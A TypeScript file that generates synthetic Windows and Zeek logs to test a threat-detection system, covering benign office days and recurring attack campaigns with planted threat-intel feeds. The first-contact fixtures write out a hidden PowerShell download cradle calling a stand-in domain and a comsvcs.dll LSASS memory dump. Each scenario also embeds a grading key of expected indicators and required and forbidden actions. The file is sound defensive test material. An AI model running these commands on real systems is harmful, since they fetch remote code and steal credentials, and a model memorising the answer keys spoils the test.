/**
 * Scenarios Vigil writes itself: ordinary office days (benign, with the administrative noise that
 * trips low-level rules), and campaigns whose infrastructure returns later, on another host, with
 * nothing a rule would catch, so only what was learned from the first incident can find it. A
 * returning campaign may also come with a partner's feed that plants the infrastructure as TI.
 */
import {
  logonSucceeded,
  networkConnection,
  processCreated,
  scheduledTaskRegistered,
} from '../synthetic/windows-records.js';
import { beacons, type Connection, type DnsQuery, zeekConnLog, zeekDnsLog } from '../synthetic/zeek-records.js';
import type { ScenarioFiles } from './write-scenario.js';

const day = (index: number, hour = 8, minute = 0) => new Date(Date.UTC(2025, 3, 1 + index, hour, minute));
const minutesAfter = (time: Date, minutes: number) => new Date(time.getTime() + minutes * 60_000);

const staff = ['a.martin', 'b.keller', 'c.osei', 'd.novak', 'e.silva', 'f.haddad'];
const sites = [
  { ip: '142.250.74.110', name: 'www.google.com' },
  { ip: '13.107.42.14', name: 'outlook.office365.com' },
  { ip: '151.101.1.140', name: 'www.reddit.com' },
  { ip: '104.16.132.229', name: 'www.cloudflare.com' },
];
const resolver = '10.30.0.53';
const programs = [
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Windows\\System32\\notepad.exe',
];

/** One ordinary day: logons, office programs, browsing (few connections per site), and a nightly backup task. */
export function officeDay(index: number, users = staff.length): ScenarioFiles {
  const windows: string[] = [];
  const connections: Connection[] = [];
  const queries: DnsQuery[] = [];
  staff.slice(0, users).forEach((user, position) => {
    const host = `WS-${String(position + 10).padStart(3, '0')}.corp.example`;
    const ip = `10.30.1.${position + 10}`;
    const start = day(index, 8, position * 7);
    windows.push(logonSucceeded({ time: start, host, user: `CORP\\${user}`, sourceIp: ip, logonType: 2 }));
    programs.forEach((image, step) => {
      windows.push(
        processCreated({
          time: minutesAfter(start, 5 + step * 40),
          host,
          user: `CORP\\${user}`,
          image,
          commandLine: `"${image}"`,
        }),
      );
    });
    sites.forEach((site, step) => {
      for (let visit = 0; visit < 3; visit += 1) {
        const time = minutesAfter(start, 20 + step * 25 + visit * 70);
        queries.push({ time: minutesAfter(time, -0.01), source: ip, resolver, query: site.name, answers: [site.ip] });
        connections.push({ time, source: ip, destination: site.ip, port: 443 });
      }
    });
  });
  windows.push(
    scheduledTaskRegistered({
      time: day(index, 22, 30),
      host: 'SRV-BACKUP.corp.example',
      user: 'CORP\\svc-backup',
      taskName: '\\Nightly backup',
      command: 'D:\\Backup\\backup-agent.exe',
    }),
  );
  return {
    scenario: {
      id: `benign-office-day-${String(index + 1).padStart(2, '0')}`,
      description: `An ordinary office day (${Math.min(users, staff.length)} users, browsing, office programs, the nightly backup task)`,
      kind: 'benign',
      logs: [
        { path: 'logs/windows.jsonl', format: 'auto' },
        { path: 'logs/conn.log', format: 'auto' },
        { path: 'logs/dns.log', format: 'auto' },
      ],
      intel: [],
      truth: {
        techniques: [],
        tactics: [],
        entities: { hosts: [], users: [], ips: [] },
        indicators: [],
        forbidden_actions: [],
      },
    },
    files: {
      'logs/windows.jsonl': `${windows.join('\n')}\n`,
      'logs/conn.log': zeekConnLog(connections),
      'logs/dns.log': zeekDnsLog(queries),
    },
  };
}

export interface Campaign {
  name: string;
  address: string;
  domain: string;
  firstHost: string;
  firstHostIp: string;
  returnHost: string;
  returnHostIp: string;
  user: string;
}

export function campaignOf(index: number): Campaign {
  return {
    name: `campaign-${String.fromCharCode(97 + index)}`,
    address: `198.51.100.${20 + index}`,
    domain: `sync-${['amber', 'basalt', 'cobalt', 'dune', 'ember', 'flint'][index % 6]}.badexample.net`,
    firstHost: `WS-${String(100 + index)}.corp.example`,
    firstHostIp: `10.30.2.${100 + index}`,
    returnHost: `WS-${String(150 + index)}.corp.example`,
    returnHostIp: `10.30.2.${150 + index}`,
    user: staff[index % staff.length]!,
  };
}

/** First contact: a download cradle, an implant checking in with its server, and an LSASS dump. */
export function campaignFirstContact(campaign: Campaign, dayIndex: number): ScenarioFiles {
  const start = day(dayIndex, 10);
  const user = `CORP\\${campaign.user}`;
  const windows = [
    processCreated({
      time: start,
      host: campaign.firstHost,
      user,
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine: `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${campaign.domain}/s.ps1')"`,
      parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    }),
    networkConnection({
      time: minutesAfter(start, 1),
      host: campaign.firstHost,
      user,
      image: `C:\\Users\\${campaign.user}\\AppData\\Roaming\\syncsvc.exe`,
      sourceIp: campaign.firstHostIp,
      destinationIp: campaign.address,
      destinationHostname: campaign.domain,
      port: 443,
    }),
    processCreated({
      time: minutesAfter(start, 30),
      host: campaign.firstHost,
      user,
      image: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\m.dmp full',
    }),
  ];
  const checkIns = beacons({
    start: minutesAfter(start, 2),
    source: campaign.firstHostIp,
    destination: campaign.address,
    port: 443,
    count: 24,
    everyMinutes: 2,
  });
  const queries = [
    {
      time: minutesAfter(start, 0.5),
      source: campaign.firstHostIp,
      resolver,
      query: campaign.domain,
      answers: [campaign.address],
    },
  ];
  const host = campaign.firstHost.split('.')[0]!;
  return {
    scenario: {
      id: `${campaign.name}-first-contact`,
      description: `${campaign.name}: download cradle from ${campaign.domain}, beaconing to ${campaign.address}, LSASS dump on ${host}`,
      kind: 'attack',
      campaign: campaign.name,
      logs: [
        { path: 'logs/windows.jsonl', format: 'auto' },
        { path: 'logs/conn.log', format: 'auto' },
        { path: 'logs/dns.log', format: 'auto' },
      ],
      intel: [],
      truth: {
        techniques: ['T1059.001', 'T1105', 'T1071', 'T1003.001'],
        tactics: ['TA0002', 'TA0011', 'TA0006'],
        entities: { hosts: [host], users: [campaign.user], ips: [campaign.address] },
        indicators: [campaign.address, campaign.domain],
        actions: [
          { type: 'block-ip', target: campaign.address },
          { type: 'block-domain', target: campaign.domain },
          { type: 'isolate-host', target: host },
          { type: 'collect-artefacts', target: host },
          { type: 'add-to-watchlist', target: host },
          { type: 'kill-process' },
          { type: 'quarantine-file' },
          { type: 'reset-credentials' },
          { type: 'disable-account' },
          { type: 'open-ticket' },
          { type: 'notify' },
        ],
        forbidden_actions: [
          { type: 'block-ip', target: resolver },
          { type: 'isolate-host', target: 'DC01' },
        ],
      },
    },
    files: {
      'logs/windows.jsonl': `${windows.join('\n')}\n`,
      'logs/conn.log': zeekConnLog(checkIns),
      'logs/dns.log': zeekDnsLog(queries),
    },
  };
}

/** The infrastructure returns on another host: a few connections and a lookup, nothing a rule catches. */
export function campaignReturn(campaign: Campaign, dayIndex: number, plantedIntel?: string): ScenarioFiles {
  const start = day(dayIndex, 14);
  const user = `CORP\\${staff[(staff.indexOf(campaign.user) + 1) % staff.length]}`;
  const windows = [
    networkConnection({
      time: start,
      host: campaign.returnHost,
      user,
      image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      sourceIp: campaign.returnHostIp,
      destinationIp: campaign.address,
      destinationHostname: campaign.domain,
      port: 443,
    }),
  ];
  const connections = [0, 9, 31].map((offset) => ({
    time: minutesAfter(start, offset),
    source: campaign.returnHostIp,
    destination: campaign.address,
    port: 443,
  }));
  const queries = [
    {
      time: minutesAfter(start, -0.1),
      source: campaign.returnHostIp,
      resolver,
      query: campaign.domain,
      answers: [campaign.address],
    },
  ];
  const host = campaign.returnHost.split('.')[0]!;
  return {
    scenario: {
      id: `${campaign.name}-returns`,
      description: `${campaign.name} returns: ${host} talks to ${campaign.address} (${campaign.domain})${plantedIntel ? ', with a partner feed naming it' : ''}`,
      kind: 'attack',
      campaign: campaign.name,
      logs: [
        { path: 'logs/windows.jsonl', format: 'auto' },
        { path: 'logs/conn.log', format: 'auto' },
        { path: 'logs/dns.log', format: 'auto' },
      ],
      intel: plantedIntel ? [{ path: 'intel/partner-feed.json' }] : [],
      truth: {
        techniques: ['T1071'],
        tactics: ['TA0011'],
        entities: { hosts: [host], users: [], ips: [campaign.address] },
        indicators: [campaign.address, campaign.domain],
        actions: [
          { type: 'block-ip', target: campaign.address },
          { type: 'block-domain', target: campaign.domain },
          { type: 'isolate-host', target: host },
          { type: 'collect-artefacts', target: host },
          { type: 'add-to-watchlist', target: host },
          { type: 'open-ticket' },
          { type: 'notify' },
        ],
        forbidden_actions: [{ type: 'block-ip', target: resolver }],
      },
    },
    files: {
      'logs/windows.jsonl': `${windows.join('\n')}\n`,
      'logs/conn.log': zeekConnLog(connections),
      'logs/dns.log': zeekDnsLog(queries),
      ...(plantedIntel ? { 'intel/partner-feed.json': plantedIntel } : {}),
    },
  };
}

/** A partner's STIX feed naming a campaign's address and domain (what a sharing community would send). */
export function partnerFeed(campaign: Campaign): string {
  const created = '2025-04-01T00:00:00.000Z';
  const indicator = (suffix: string, pattern: string, name: string) => ({
    type: 'indicator',
    spec_version: '2.1',
    id: `indicator--${suffix}`,
    created,
    modified: created,
    name,
    indicator_types: ['malicious-activity'],
    pattern,
    pattern_type: 'stix',
    valid_from: created,
    confidence: 80,
  });
  const hex = (campaign.address.split('.').pop() ?? '0').padStart(3, '0');
  return `${JSON.stringify(
    {
      type: 'bundle',
      id: `bundle--5f1a2b3c-0000-4000-8000-000000000${hex}`,
      objects: [
        indicator(
          `6a1b2c3d-0000-4000-8000-000000001${hex}`,
          `[ipv4-addr:value = '${campaign.address}']`,
          `${campaign.name} server`,
        ),
        indicator(
          `6a1b2c3d-0000-4000-8000-000000002${hex}`,
          `[domain-name:value = '${campaign.domain}']`,
          `${campaign.name} domain`,
        ),
      ],
    },
    null,
    2,
  )}\n`;
}
